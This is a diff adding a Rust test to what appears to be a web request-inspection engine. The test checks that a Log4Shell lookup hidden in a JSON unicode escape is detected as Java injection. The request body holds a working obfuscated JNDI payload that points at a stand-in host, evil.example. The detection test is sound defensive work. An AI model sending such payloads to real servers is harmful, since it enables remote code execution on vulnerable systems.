@@ -79,3 +79,28 @@ fn patch_directory_adds_patches_and_reports_mistakes_with_file_and_line() {
     assert!(text.contains("bad.yaml:5:"), "{text}");
     assert!(text.contains("unknown transform \"rot13\""), "{text}");
 }
+
+#[test]
+fn a_lookup_hidden_in_a_json_escape_is_judged_on_its_decoded_value() {
+    // The Log4Shell patch reads the raw query, body and headers; inside a JSON string the
+    // lookup is `\u0024{…}`, which only the decoded value shows, and the java detector reads
+    // every decoded value.
+    let e = engine("").unwrap();
+    let mut r = RequestView::new(Method::POST, "/api/users", "192.0.2.7".parse().unwrap());
+    r.headers.insert(
+        http::header::CONTENT_TYPE,
+        HeaderValue::from_static("application/json"),
+    );
+    r.body = r#"{"name":"\u0024{jndi:ldap://evil.example/a}"}"#.into();
+    let v = e.inspect(&r, Instant::now());
+    assert!(
+        v.signals
+            .iter()
+            .any(|s| s.category == palisade_types::Category::JavaInjection
+                && s.confidence >= 0.9
+                && s.place.name.contains("name")),
+        "{:?}",
+        v.signals
+    );
+    assert!(v.signals.iter().all(|s| s.place.name != "CVE-2021-44228"));
+}
